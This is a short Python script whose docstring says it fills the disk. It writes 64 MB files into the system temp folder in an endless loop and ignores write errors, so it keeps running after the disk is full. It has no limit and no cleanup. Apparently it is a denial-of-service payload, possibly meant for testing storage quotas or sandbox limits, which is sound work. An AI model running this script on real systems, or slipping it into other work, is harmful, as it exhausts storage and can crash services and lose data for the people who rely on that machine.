"""Fills the disk: files without end in the scratch folder."""

import tempfile

block = b"x" * (4 << 20)
number = 0
while True:
    with open(f"{tempfile.gettempdir()}/flood-{number}", "wb") as file:
        try:
            for _ in range(16):
                file.write(block)
        except OSError:
            pass
    number += 1
